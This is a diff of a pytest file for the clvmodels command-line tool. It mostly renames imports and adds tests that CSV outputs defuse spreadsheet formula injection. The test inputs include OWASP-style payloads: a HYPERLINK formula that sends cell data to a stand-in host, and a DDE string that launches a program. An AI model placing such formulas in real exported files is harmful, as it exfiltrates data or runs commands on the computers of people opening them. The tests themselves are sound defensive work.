@@ -9,7 +9,9 @@ scheduler runs them; the failure cases that need a patched function run ``main()
 from __future__ import annotations
 
 import contextlib
+import csv
 import errno
+import importlib.util
 import io
 import json
 import os
@@ -24,9 +26,10 @@ import pandas as pd
 import pytest
 
 import clvmodels
-from clvmodels import _batch
 from clvmodels.__main__ import main
-from clvmodels._presentation import transactions_used
+from clvmodels.files import tables
+from clvmodels.files.model_directory import ModelDirectory
+from clvmodels.presentation import transactions_used
 
 MODULE = [sys.executable, "-m", "clvmodels"]
 SCRIPT = Path(sys.executable).with_name("clvmodels")
@@ -82,14 +85,14 @@ def test_rfm_csv_is_a_plain_table_with_a_json_sidecar(rfm_csv):
     plain = pd.read_csv(rfm_csv)  # what any CSV reader sees
     assert list(plain.columns) == ["customer_id", "frequency", "recency", "T", "monetary_value"]
     assert len(plain) == 2357 and plain["customer_id"].is_unique
-    rfm = _batch.read_rfm(rfm_csv)
+    rfm = tables.read_rfm(rfm_csv)
     np.testing.assert_array_equal(plain[["frequency", "recency", "T", "monetary_value"]],
                                   rfm.to_numpy())
     sidecar = json.loads(rfm_csv.with_name("rfm.csv.json").read_text())
     assert sidecar["format"] == "clvmodels.rfm" and sidecar["time_unit"] == "W"
     assert sidecar["observation_end"] == "1997-09-30T00:00:00"
     assert (sidecar["n_transactions"], sidecar["n_transactions_excluded"]) == (4960, 1959)
-    assert sidecar["table"] == {"file": "rfm.csv", "sha256": _batch.sha256(rfm_csv)}
+    assert sidecar["table"] == {"file": "rfm.csv", "sha256": tables.sha256(rfm_csv)}
     assert "table" not in rfm.attrs["metadata"]  # the sidecar's own record stays in it
 
 
@@ -114,13 +117,13 @@ def test_parquet_keeps_its_metadata_inside_and_scores_stay_plain(rfm_csv, tmp_pa
 
 def test_rfm_file_of_an_earlier_version_still_reads(rfm_csv, tmp_path):
     """Before the sidecar, the metadata was the CSV file's first line, ``# clvmodels {json}``."""
-    metadata = dict(_batch.read_rfm(rfm_csv).attrs["metadata"])
+    metadata = dict(tables.read_rfm(rfm_csv).attrs["metadata"])
     del metadata["n_transactions"]  # not recorded then
     legacy = tmp_path / "old_rfm.csv"
     legacy.write_text(f"# clvmodels {json.dumps(metadata)}\n" + rfm_csv.read_text())
     result = cli("fit", legacy, "--spend", "none", "-o", tmp_path / "model", "-q")
     assert result.returncode == 0, result.stderr  # no --time-unit needed: the line has it
-    old, new = _batch.read_rfm(legacy), _batch.read_rfm(rfm_csv)
+    old, new = tables.read_rfm(legacy), tables.read_rfm(rfm_csv)
     pd.testing.assert_frame_equal(old, new)
     assert {k: v for k, v in old.attrs.items() if k != "metadata"} == {
         k: v for k, v in new.attrs.items() if k not in ("metadata", "n_transactions")}
@@ -183,7 +186,7 @@ def test_a_new_pair_replaces_the_old_one(rfm_csv, tmp_path):
     assert main(["summarize", str(rfm_csv.with_name("transactions.csv")), "-o",
                  str(tmp_path / "rfm.csv"), "--observation-end", "1997-06-30", "-q"]) == 0
     assert sorted(p.name for p in tmp_path.iterdir()) == ["rfm.csv", "rfm.csv.json"]
-    assert _batch.read_rfm(tmp_path / "rfm.csv").attrs["observation_end"] == (
+    assert tables.read_rfm(tmp_path / "rfm.csv").attrs["observation_end"] == (
         "1997-06-30T00:00:00")
 
 
@@ -205,7 +208,7 @@ def counts_chain(workdir):
     }
     for name, result in results.items():
         assert result.returncode == (4 if name == "fit with spend" else 0), (name, result.stderr)
-    rfm = _batch.read_rfm(d / "counts_rfm.csv")
+    rfm = tables.read_rfm(d / "counts_rfm.csv")
     return d, results, rfm, clvmodels.BetaGeoModel().fit(rfm)
 
 
@@ -220,7 +223,7 @@ def test_counts_only_fit_writes_no_spend_model(counts_chain):
     manifest = json.loads((d / "counts_model" / "manifest.json").read_text())
     assert manifest["spend_model"] is None and manifest["fit"]["spend"] == "none"
     assert manifest["format_version"] == 2  # readers of format 1 expect a spend model
-    models = _batch.ModelDirectory.load(d / "counts_model")
+    models = ModelDirectory.load(d / "counts_model")
     assert models.spend_model is None
     # The same RFM file and code as the API fit: the same estimates (1e-12 leaves room for a
     # different summation order).
@@ -345,3 +348,97 @@ def test_bayesian_counts_only_scores_carry_intervals(counts_chain, tmp_path):
         assert (scores[f"{name}_lower"] <= scores[name]).all()
         assert (scores[name] <= scores[f"{name}_upper"]).all()
     assert "Expected purchases, next 52 weeks: " in stdout
+
+
+# ----------------------------------------------------------------------------- formulas
+# Ids a spreadsheet would run (OWASP's CSV injection examples), and one already quoted. (A
+# log with an id starting with a carriage return cannot be written with pandas' to_csv: it
+# splits the row; test_tables_defuse_and_restore_every_formula_start covers that start.)
+INJECTED = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+            "@SUM(1+1)", "-2+3", "\tx", "'=already quoted"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def injected(workdir, tmp_path_factory):
+    """summarize -> fit -> predict (a negative margin: negative CLVs) through the console
+    script on a log whose first customers' ids, and whose id column's name, are formulas."""
+    d = tmp_path_factory.mktemp("formulas")
+    log = pd.read_csv(workdir / "transactions.csv", dtype={"customer_id": str})
+    ids = dict(zip([str(i) for i in range(1, len(INJECTED) + 1)], INJECTED, strict=True))
+    log["customer_id"] = log["customer_id"].map(lambda id_: ids.get(id_, id_))
+    log.rename(columns={"customer_id": "@customer"}).to_csv(d / "log.csv", index=False)
+    steps = [
+        ["summarize", d / "log.csv", "--customer-col", "@customer", "-o", d / "rfm.csv",
+         "--observation-end", CALIBRATION_END],
+        ["fit", d / "rfm.csv", "-o", d / "model"],
+        ["predict", d / "model", d / "rfm.csv", "--horizon", 52, "--margin", -0.3,
+         "-o", d / "scores.csv"],
+    ]
+    if importlib.util.find_spec("pyarrow") is not None:
+        steps.append(["summarize", d / "log.csv", "--customer-col", "@customer", "-o",
+                      d / "rfm.parquet", "--observation-end", CALIBRATION_END])
+    for step in steps:
+        result = cli(*step, "-q")
+        assert result.returncode == 0, (step, result.stderr)
+    return d
+
+
+def _cells(path):
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.mark.parametrize("name", ["rfm.csv", "scores.csv"])
+def test_csv_outputs_defuse_formulas_but_not_negative_numbers(injected, name):
+    rows = _cells(injected / name)
+    header, body = rows[0], rows[1:]
+    assert header[0] == "'@customer"
+    for row in body:  # a cell a spreadsheet would run is a number, or it is not there
+        for cell in row:
+            if cell.startswith(FORMULA_STARTS):
+                float(cell)
+    ids = [row[0] for row in body]
+    for id_ in INJECTED:
+        assert "'" + id_ in ids
+    if name == "scores.csv":
+        clv = [float(row[header.index("clv")]) for row in body]
+        assert min(clv) < 0  # written as numbers, e.g. -1.5, not '-1.5
+        assert not any(row[header.index("clv")].startswith("'") for row in body)
+
+
+def test_clvmodels_reads_its_defused_rfm_file_back_exactly(injected):
+    sidecar = json.loads((injected / "rfm.csv.json").read_text())
+    assert sidecar["table"]["defused_formulas"] is True
+    rfm = tables.read_rfm(injected / "rfm.csv")
+    assert rfm.index.name == "@customer"
+    assert set(INJECTED) <= set(rfm.index)
+    if (injected / "rfm.parquet").exists():  # Parquet holds the ids exactly, undefused
+        parquet = pd.read_parquet(injected / "rfm.parquet").set_index("@customer")
+        assert set(INJECTED) <= set(parquet.index)
+        pd.testing.assert_frame_equal(rfm.sort_index(), tables.read_rfm(
+            injected / "rfm.parquet").sort_index(), check_exact=False, rtol=CSV_RTOL,
+            check_index_type=False)
+
+
+def test_tables_defuse_and_restore_every_formula_start(tmp_path):
+    """Every start of OWASP's rule, a carriage return inside a cell (quoted, so the row stays
+    whole) and a formula as a column name, written as CSV and read back exactly; in Parquet
+    as they are."""
+    ids = ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a\rb", "'=x", "''@x", "'a", "plain"]
+    frame = pd.DataFrame({"=name": ["-x"] * len(ids), "value": -np.arange(len(ids)) - 0.5},
+                         index=pd.Index(ids, name="customer_id"))
+    metadata = {"format": "clvmodels.rfm", "customer_col": "customer_id"}
+    tables.write_table(frame, tmp_path / "t.csv", metadata=metadata)
+    rows = _cells(tmp_path / "t.csv")
+    assert rows[0] == ["customer_id", "'=name", "value"]
+    assert [row[0] for row in rows[1:]] == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx",
+                                            "a\rb", "''=x", "'''@x", "'a", "plain"]
+    assert all(row[2].startswith("-") and float(row[2]) < 0 for row in rows[1:])
+    read, found = tables.read_table(tmp_path / "t.csv", role="RFM", text_id=True)
+    pd.testing.assert_frame_equal(read.set_index("customer_id"), frame)
+    assert found["customer_col"] == "customer_id"
+    if importlib.util.find_spec("pyarrow") is not None:
+        tables.write_table(frame, tmp_path / "t.parquet", metadata=metadata)
+        pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "t.parquet")
+                                      .set_index("customer_id"), frame)
